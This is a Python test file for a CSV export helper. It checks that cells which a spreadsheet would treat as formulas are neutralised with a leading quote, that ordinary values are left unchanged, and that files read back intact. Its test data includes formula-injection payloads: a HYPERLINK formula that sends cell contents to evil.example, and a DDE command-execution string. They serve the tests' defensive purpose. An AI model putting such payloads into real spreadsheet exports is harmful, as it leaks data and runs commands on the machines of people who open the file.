"""No cell of a file is run by a spreadsheet, and none is changed that need not be."""

from __future__ import annotations

import csv
import io

import pytest

from assistant.export.cells import csv_bytes, is_formula, safe_cell

FORMULAS = [
    '=HYPERLINK("http://evil.example?"&A1,"x")',
    "+1+cmd|'/C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1",
    "＝1+1",
    "\x00=1",
    "\tplain",
]
HARMLESS = [
    "-5",
    "+447400123456",
    "-1.5e-3",
    "12748",
    "a=b",
    "anna@example.com",
    "Ünïcode 客户",
    "",
]


@pytest.mark.parametrize("cell", FORMULAS)
def test_formulas_are_disarmed(cell):
    assert is_formula(cell)
    assert safe_cell(cell) == f"'{cell}"


@pytest.mark.parametrize("cell", HARMLESS)
def test_ids_and_phone_numbers_stay_as_they_are(cell):
    assert safe_cell(cell) == cell


def test_a_file_reads_back_as_it_was_written():
    rows = [("a,b", 'say "hi"', "two\r\nlines", None), ("客户", -5, 0.25, "x;y")]
    content = csv_bytes(("one", "two", "three", "=four"), rows)
    read = list(csv.reader(io.StringIO(content.decode("utf-8"), newline="")))
    assert read[0] == ["one", "two", "three", "'=four"]
    assert read[1:] == [["a,b", 'say "hi"', "two\r\nlines", ""], ["客户", "-5", "0.25", "x;y"]]
    assert content.endswith(b"\r\n")
